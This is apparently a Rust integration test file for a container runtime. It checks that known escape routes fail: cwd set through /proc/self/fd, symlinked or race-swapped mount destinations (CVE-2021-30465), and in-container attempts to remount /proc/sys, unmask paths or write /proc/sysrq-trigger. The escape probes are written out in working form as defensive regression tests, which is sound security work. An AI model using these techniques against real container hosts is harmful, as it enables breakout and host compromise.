    assert_eq!(fd_list(&out.stdout), [0, 1, 2, 3, 4], "{out}");
}

/// Prints the process's cwd and what `..` far above it holds.
const CWD_PROBE: &str = "echo \"CWD=$(pwd -P)\"; echo \"LINK=$(readlink /proc/self/cwd)\"; echo LS-BEGIN; \
     ls -1a /proc/self/cwd/../../../../../../../../../../../../..; echo LS-END";

/// Either the command failed, or the probe ran in a directory inside the container.
#[track_caller]
fn assert_cwd_inside(out: &Output, what: &str) {
    let text = out.stdout.clone();
    let Some(listing) = text.split("LS-BEGIN\n").nth(1).and_then(|s| s.split("LS-END").next()) else {
        assert!(
            !out.ok(),
            "{what}: the probe did not run, yet the command succeeded: {out}"
        );
        return;
    };
    let host_only = host_only_root_entries();
    let leaked: Vec<&str> = listing.lines().filter(|l| host_only.iter().any(|h| h == l)).collect();
    assert!(
        leaked.is_empty(),
        "{what}: the process runs outside the container (sees host {leaked:?}): {out}"
    );
    let link = text.lines().find_map(|l| l.strip_prefix("LINK=")).unwrap_or("");
    assert!(
        link.starts_with('/') && !link.starts_with("/sys/fs/cgroup"),
        "{what}: cwd {link:?}: {out}"
    );
}

#[test]
fn cwd_through_proc_self_fd_cannot_escape_on_create() {
    for n in 3..=10 {
        let mut b = Bundle::sh(CWD_PROBE);
        b.set("/process/cwd", json!(format!("/proc/self/fd/{n}")));
        let c = Container::new(&format!("cwd-fd{n}"), b);
        let out = c.run_foreground();
        assert_cwd_inside(&out, &format!("process.cwd=/proc/self/fd/{n}"));
    }
}

#[test]
fn cwd_through_proc_self_fd_cannot_escape_on_exec() {
    let mut b = Bundle::new();
    b.args(&["sleep", "600"]);
    let c = Container::new("exec-cwd-fd", b);
    c.create_ok();
    c.start_ok();
    for n in 3..=10 {
        let cwd = format!("/proc/self/fd/{n}");
        let out = c.rt(&["exec", "--cwd", &cwd, &c.id, "sh", "-c", CWD_PROBE]);
        assert_cwd_inside(&out, &format!("exec --cwd {cwd}"));
    }
}

// ---------------------------------------------------------------------------------
// CVE-2021-30465 and friends: mount destinations through symlinks, and swapped under us

/// The container's own mountinfo (read from the host through its init).
fn container_mountinfo(c: &Container) -> String {
    let pid = c.pid();
    fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap_or_else(|e| panic!("mountinfo of {pid}: {e}"))
}

/// Mount a tmpfs at `<link>/tmp/<name>` where `link` is a symlink planted in a private rootfs;
/// the host's /tmp/<name> must never be created or mounted on.
fn symlink_destination(test: &str, link_target: &str) {
    let mut b = Bundle::new();
    let rootfs = b.private_rootfs();
    fs::create_dir_all(rootfs.join("mnt")).unwrap();
    symlink(link_target, rootfs.join("mnt/evil")).unwrap();
    let name = unique_id("pwned");
    let host_target = Path::new("/tmp").join(&name);
    b.tmpfs(&format!("/mnt/evil/tmp/{name}"));
    b.args(&["sleep", "600"]);
    let c = Container::new(test, b);
    let out = c.create();
    let escaped = host_target.exists();
    let host_mounts = host_mounts_mentioning(&name);
    if escaped {
        let _ = fs::remove_dir(&host_target);
    }
    assert!(
        !escaped,
        "the runtime created {} on the host: {out}",
        host_target.display()
    );
    assert!(host_mounts.is_empty(), "host mounts: {host_mounts:?}");
    if out.ok() {
        // Resolved inside the root: the tmpfs is the container's /tmp/<name>.
        let mi = container_mountinfo(&c);
        assert!(
            mi.lines().any(|l| l.split(' ').nth(4) == Some(&format!("/tmp/{name}"))),
            "no tmpfs at /tmp/{name} in the container:\n{mi}"
        );
        assert!(rootfs.join("tmp").join(&name).is_dir());
    }
}

#[test]
fn cve_2021_30465_absolute_symlink_in_mount_destination() {
    symlink_destination("symlink-abs", "/");
}

#[test]
fn cve_2021_30465_dotdot_symlink_in_mount_destination() {
    symlink_destination("symlink-dotdot", "../../../../../../..");
}

/// A host thread swaps a directory of the rootfs with a symlink to /tmp (renameat2
/// RENAME_EXCHANGE, in a tight loop) while the runtime mounts a tmpfs below it, 50 times.
#[test]
fn cve_2021_30465_symlink_swap_race() {
    let dir = tempfile::Builder::new().prefix("amber-it-race.").tempdir().unwrap();
    let mut scratch = Bundle::new();
    let src = scratch.private_rootfs();
    let rootfs = dir.path().join("rootfs");
    fs::rename(&src, &rootfs).expect("move the rootfs copy");
    fs::create_dir(rootfs.join("race")).unwrap();
    symlink("/tmp", rootfs.join("race-alt")).unwrap();

    let stop = Arc::new(AtomicBool::new(false));
    let swaps = Arc::new(AtomicUsize::new(0));
    let swapper = {
        let (stop, swaps) = (stop.clone(), swaps.clone());
        let a = std::ffi::CString::new(path_str(&rootfs.join("race"))).unwrap();
        let b = std::ffi::CString::new(path_str(&rootfs.join("race-alt"))).unwrap();
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                // SAFETY: renameat2 on two NUL-terminated paths we own.
                let r = unsafe {
                    libc::renameat2(
                        libc::AT_FDCWD,
                        a.as_ptr(),
                        libc::AT_FDCWD,
                        b.as_ptr(),
                        libc::RENAME_EXCHANGE,
                    )
                };
                if r == 0 {
                    swaps.fetch_add(1, Ordering::Relaxed);
                }
            }
        })
    };
    let stop_guard = StopOnDrop(stop.clone());
    let (mut via_dir, mut via_link, mut failed, mut host_dirs) = (0, 0, 0, 0);
    let mut errors: Vec<String> = Vec::new();
    for i in 0..50 {
        let name = unique_id("race");
        let host_target = Path::new("/tmp").join(&name);
        let mut b = Bundle::new();
        b.set("/root/path", json!(path_str(&rootfs)));
        b.tmpfs(&format!("/race/{name}"));
        b.args(&["sleep", "600"]);
        let c = Container::new(&format!("race{i}"), b);
        let out = c.create();
        if out.ok() {
            // The container's mountinfo only shows mount points inside its root; the swapper
            // may have renamed the directory since, so only the last component is fixed.
            let mi = container_mountinfo(&c);
            let suffix = format!("/{name}");
            let Some(at) = mi
                .lines()
                .filter_map(|l| l.split(' ').nth(4))
                .find(|m| m.ends_with(&suffix))
                .map(str::to_string)
            else {
                panic!("create {i}: the tmpfs for {name} is nowhere in the container:\n{mi}");
            };
            if at.starts_with("/tmp/") {
                via_link += 1;
            } else {
                via_dir += 1;
            }
        } else {
            failed += 1;
            let why = out.stderr.lines().last().unwrap_or_default().replace(&name, "NAME");
            if !errors.contains(&why) {
                errors.push(why);
            }
        }
        drop(c);
        let escaped = host_target.exists();
        if escaped {
            let _ = fs::remove_dir(&host_target);
            // runc before 1.1.14 creates mount points with a plain MkdirAll after resolving the
            // path (CVE-2024-45310), so it makes the directory on the host; it then refuses
            // the mount ("possibly malicious path detected").
            if !is_amber() {
                eprintln!(
                    "create {i}: {} was created on the host (CVE-2024-45310)",
                    host_target.display()
                );
                host_dirs += 1;
            }
        }
        assert!(
            !escaped || !is_amber(),
            "create {i}: {} was created on the host: {out}",
            host_target.display()
        );
        let m = host_mounts_mentioning(&name);
        assert!(m.is_empty(), "create {i}: host mounts {m:?}");
    }
    drop(stop_guard);
    swapper.join().unwrap();
    eprintln!(
        "{} swaps; tmpfs below the directory {via_dir}x, below the symlink (inside the root) {via_link}x, \
         create failed {failed}x, directory made on the host {host_dirs}x; errors:\n{}",
        swaps.load(Ordering::Relaxed),
        errors.join("\n")
    );
    let m = host_mounts_mentioning(&path_str(&rootfs));
    assert!(m.is_empty(), "mounts left on the rootfs: {m:?}");
}

struct StopOnDrop(Arc<AtomicBool>);

impl Drop for StopOnDrop {
    fn drop(&mut self) {
        self.0.store(true, Ordering::Relaxed);
    }
}

// ---------------------------------------------------------------------------------
// Masked and read-only paths cannot be undone from inside (runc's default capabilities)

#[test]
fn masked_and_readonly_paths_cannot_be_undone() {
    let mut b = Bundle::new();
    b.tmpfs("/tmp");
    b.tmpfs("/run");
    // a masked file and a read-only directory of our own, besides runc's defaults
    b.config["linux"]["maskedPaths"]
        .as_array_mut()
        .unwrap()
        .push(json!("/etc/hostname"));
    b.config["linux"]["readonlyPaths"]
        .as_array_mut()
        .unwrap()
        .push(json!("/run"));
    let mut script = String::from("exec 2>/dev/null\n");
    let check = |script: &mut String, name: &str, cmd: &str| {
        script.push_str(&format!(
            "if {cmd}; then echo '{name} SUCCEEDED'; else echo '{name} failed'; fi\n"
        ));
    };
    check(&mut script, "remount /proc/sys rw", "mount -o remount,rw /proc/sys");
    check(
        &mut script,
        "write /proc/sys",
        "echo pwned > /proc/sys/kernel/domainname",
    );
    check(&mut script, "remount /run rw", "mount -o remount,rw /run");
    check(&mut script, "write /run", "touch /run/pwned");
    check(&mut script, "umount /etc/hostname", "umount /etc/hostname");
    check(&mut script, "lazy umount /etc/hostname", "umount -l /etc/hostname");
    check(
        &mut script,
        "fresh procfs",
        "mkdir -p /tmp/p && mount -t proc proc /tmp/p",
    );
    check(&mut script, "bind over a mask", "mount --bind /tmp /proc/acpi");
    let mut masked = vec!["/etc/hostname".to_string()];
    for p in [
        "/proc/kcore",
        "/proc/timer_list",
        "/proc/keys",
        "/proc/acpi",
        "/sys/firmware",
    ] {
        if Path::new(p).exists() {
            masked.push(p.to_string());
            check(
                &mut script,
                &format!("umount {p}"),
                &format!("umount {p} || umount -l {p}"),
            );
        }
    }
    if Path::new("/proc/sysrq-trigger").exists() {
        // 'h' only prints help to the kernel log
        check(&mut script, "write /proc/sysrq-trigger", "echo h > /proc/sysrq-trigger");
    } else {
        eprintln!("no /proc/sysrq-trigger on this kernel: that check is skipped");
    }
    // After all attempts, the masks still hold: files read empty, directories list empty.
    for p in &masked {
        script.push_str(&format!(
            "if [ -d {p} ]; then echo \"{p} lists $(ls -A {p} | wc -l)\"; else echo \"{p} reads $(wc -c < {p})\"; fi\n"
        ));
    }
    script.push_str("grep -q pwned /proc/sys/kernel/domainname && echo 'domainname pwned'; true\n");
    b.args(&["sh", "-c", &script]);
    let c = Container::new("masks", b);
    let out = c.run_foreground();
    out.assert_ok();
    eprintln!("{}", out.stdout);
    let bad: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| {
            l.ends_with("SUCCEEDED")
                || l.contains("pwned")
                || (l.contains(" reads ") && !l.ends_with(" reads 0"))
                || (l.contains(" lists ") && !l.ends_with(" lists 0"))
        })
        .collect();
    assert!(
        bad.is_empty(),
        "masked/read-only paths undone from inside: {bad:?}\n{out}"
    );
    assert!(out.stdout.contains("remount /proc/sys rw failed"), "{out}");
}

/// CVE-2019-19921 and friends: procfs may only be mounted on a directory, also when the
/// destination is a symlink to a file.
#[test]
fn proc_on_a_file_destination_is_refused() {
    let mut b = Bundle::new();
    b.add_mount("/etc/passwd", "proc", "proc", &[]);
    let c = Container::new("proc-on-file", b);
    let out = create_marked(&c);
    assert_failed_cleanly(&c, &out);

    let mut b = Bundle::new();
    let rootfs = b.private_rootfs();
    symlink("/etc/hostname", rootfs.join("procfile")).unwrap();
    b.add_mount("/procfile", "proc", "proc", &[]);
    let c = Container::new("proc-on-file-link", b);
    let out = create_marked(&c);
    assert_failed_cleanly(&c, &out);
}

// ---------------------------------------------------------------------------------
// seccomp

fn seccomp_container(name: &str, seccomp: Value, args: &[&str]) -> (tempfile::TempDir, Container) {
    let tools = tools_dir();
    let helper = helper_in(tools.path());
    let mut b = Bundle::new();
    add_helper(&mut b, &helper);
    b.set("/linux/seccomp", seccomp);
    b.args(args);
    (tools, Container::new(name, b))
}

#[test]
fn seccomp_errno_ret_is_returned() {
    let profile = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "syscalls": [{ "names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 42 }]
    });
    let (_t, c) = seccomp_container("seccomp-errno", profile, &[HELPER, "mkdir", "/tmp/x"]);
    let out = c.run_foreground();
    out.assert_ok();
    assert!(out.stdout.contains("mkdir errno=42"), "{out}");
}

#[test]
fn seccomp_errno_without_errno_ret_is_eperm() {
    let profile = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "syscalls": [{ "names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO" }]
    });
    let (_t, c) = seccomp_container("seccomp-eperm", profile, &["sh", "-c", "mkdir /tmp/x"]);
    let out = c.run_foreground();
    out.assert_fail();
    assert!(out.stderr.contains("Operation not permitted"), "{out}");
}

#[test]
fn seccomp_kill_process_kills_with_sigsys() {
    let profile = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "syscalls": [{ "names": ["sysinfo"], "action": "SCMP_ACT_KILL_PROCESS" }]
    });
    let (_t, c) = seccomp_container("seccomp-kill", profile, &[HELPER, "sysinfo"]);
    let out = c.run_foreground();
    // 128 + SIGSYS
    out.assert_code(159);
    assert!(!out.stdout.contains("sysinfo errno"), "the syscall returned: {out}");
}

/// Everything a runtime and the helper need after the filter is loaded; the rest gets
/// `defaultErrnoRet`.
const ALLOWED: &[&str] = &[
    "access",
    "arch_prctl",
    "brk",
    "capget",
    "capset",
    "chdir",
    "clock_gettime",
    "clock_nanosleep",
    "clone",
    "clone3",
    "close",
    "close_range",
    "dup",
    "dup2",
    "dup3",
    "epoll_create1",
    "epoll_ctl",
    "epoll_pwait",
    "epoll_wait",
    "execve",
    "execveat",
    "exit",
    "exit_group",
    "faccessat",
    "faccessat2",
    "fchdir",
    "fcntl",
    "fstat",
    "fstatfs",
    "futex",
    "getcwd",
    "getdents64",
    "getegid",
    "geteuid",
    "getgid",
    "getpgrp",
    "getpid",
    "getppid",
    "getrandom",
    "getrlimit",
    "gettid",
    "getuid",
    "ioctl",
    "lseek",
    "madvise",
    "mkdir",
    "mkdirat",
    "mmap",
    "mprotect",
    "munmap",
    "nanosleep",
    "newfstatat",
    "open",
    "openat",
    "openat2",
    "pipe2",
    "poll",
    "ppoll",
    "prctl",
    "pread64",
    "prlimit64",
    "read",
    "readlink",
    "readlinkat",
    "recvmsg",
    "rseq",
    "rt_sigaction",
    "rt_sigprocmask",
    "rt_sigreturn",
    "sched_getaffinity",
    "sched_yield",
    "sendmsg",
    "set_robust_list",
    "set_tid_address",
    "setgid",
    "setgroups",
    "setsid",
    "setuid",
    "sigaltstack",
    "stat",
    "statx",
    "tgkill",
    "uname",
    "wait4",
    "waitid",
    "write",
    "writev",
];

#[test]
fn seccomp_default_errno_ret_is_returned() {
    let profile = json!({
        "defaultAction": "SCMP_ACT_ERRNO",
        "defaultErrnoRet": 99,
        "architectures": ["SCMP_ARCH_X86_64"],
        "syscalls": [{ "names": ALLOWED, "action": "SCMP_ACT_ALLOW" }]
    });
    let (_t, c) = seccomp_container("seccomp-default-errno", profile, &[HELPER, "sysinfo"]);
    let out = c.run_foreground();
    out.assert_ok();
    assert!(out.stdout.contains("sysinfo errno=99"), "{out}");
}

#[test]
fn seccomp_unknown_action_fails_create_cleanly() {
    let profile = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "syscalls": [{ "names": ["mkdir"], "action": "SCMP_ACT_BOGUS" }]
    });
    let (_t, c) = seccomp_container("seccomp-bad-action", profile, &["true"]);
    let out = create_marked(&c);
    assert_failed_cleanly(&c, &out);
}

#[test]
fn seccomp_unknown_default_action_fails_create_cleanly() {
    let profile = json!({ "defaultAction": "SCMP_ACT_BOGUS" });
    let (_t, c) = seccomp_container("seccomp-bad-default", profile, &["true"]);
    let out = create_marked(&c);
    assert_failed_cleanly(&c, &out);
}

#[test]
fn seccomp_unknown_flag_fails_create_cleanly() {
    let profile = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "flags": ["SECCOMP_FILTER_FLAG_BOGUS"],
        "syscalls": [{ "names": ["mkdir"], "action": "SCMP_ACT_ERRNO" }]
    });
    let (_t, c) = seccomp_container("seccomp-bad-flag", profile, &["true"]);
    let out = create_marked(&c);
    assert_failed_cleanly(&c, &out);
}

// ---------------------------------------------------------------------------------
// Failed creates leave nothing

#[test]
fn failed_bind_mount_leaves_nothing() {
    let mut b = Bundle::new();
    b.tmpfs("/tmp");
    b.bind(Path::new("/nonexistent/amber-it-source"), "/tmp/dst", &["ro"]);
    let c = Container::new("bad-bind", b);
    let out = create_marked(&c);
    assert_failed_cleanly(&c, &out);
}

/// A flag the runtime knows but this host's kernel or libseccomp cannot apply must fail the
/// create (never silently load a weaker filter), and leave nothing behind.
#[test]
fn seccomp_unsupported_flag_fails_create_cleanly() {
    const FLAG: &str = "SECCOMP_FILTER_FLAG_WAIT_KILLABLE_RECV";
    let features = rt(&["features"]);
    let supported = serde_json::from_str::<Value>(&features.stdout)
        .ok()
        .and_then(|v| v["linux"]["seccomp"]["supportedFlags"].as_array().cloned())
        .unwrap_or_default();
    if supported.iter().any(|f| f == FLAG) {
        eprintln!("{FLAG} is supported on this host: nothing to test");
        return;
    }
    let profile = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "flags": [FLAG],
        "syscalls": [{ "names": ["mkdir"], "action": "SCMP_ACT_ERRNO" }]
    });
    let (_t, c) = seccomp_container("seccomp-unsupported-flag", profile, &["true"]);
    let out = create_marked(&c);
    assert_failed_cleanly(&c, &out);
    if is_amber() {
        assert!(out.stderr.contains(FLAG), "{out}");
    }
}
